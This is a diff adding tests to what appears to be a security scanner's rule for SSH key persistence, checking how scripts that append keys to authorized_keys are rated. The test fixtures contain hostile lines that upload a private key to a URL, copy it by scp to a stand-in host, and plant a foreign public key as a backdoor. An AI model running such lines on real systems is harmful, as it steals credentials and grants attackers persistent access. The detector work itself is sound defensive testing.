@@ -197,6 +197,29 @@ describe('Adding a key to authorized_keys', () => {
   });
 });
 
+describe('Appending a freshly generated key to authorized_keys (rotation)', () => {
+  const severity = (text: string) =>
+    findingsOf(text, 'rotate.py').find((f) => f.rule_id === 'SG-PERSIST-003')?.severity;
+  const rotate = (extra = '') =>
+    'import shlex, subprocess\n' +
+    'subprocess.run(["ssh-keygen", "-t", "ed25519", "-f", str(NEW_KEY), "-N", ""], check=True)\n' +
+    extra +
+    'pub = NEW_KEY.with_suffix(".pub").read_text().strip()\n' +
+    'remote = f"echo {shlex.quote(pub)} >> ~/.ssh/authorized_keys"\n' +
+    'subprocess.run(["ssh", host, remote])\n';
+
+  it("should rate pushing the script's own new public key MEDIUM", () => {
+    expect(severity(rotate())).toBe('MEDIUM');
+  });
+
+  it('should keep it HIGH when the script also sends files out, fetches, or holds a key', () => {
+    expect(severity(rotate('requests.post(URL, files={"k": open(str(NEW_KEY), "rb")})\n'))).toBe('HIGH');
+    expect(severity(rotate('subprocess.run(["scp", str(NEW_KEY), "drop@203.0.113.9:"])\n'))).toBe('HIGH');
+    expect(severity(rotate('pub2 = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHk3 relay"\n'))).toBe('HIGH');
+    expect(severity(rotate().replace('"-t", "ed25519", ', ''))).toBe('HIGH');
+  });
+});
+
 describe('Python startup hooks (.pth)', () => {
   const severity = (path: string, text: string, others: Record<string, string> = {}) =>
     findingsOf(text, path, undefined, others).find((f) => f.rule_id === 'SG-PERSIST-009')?.severity;
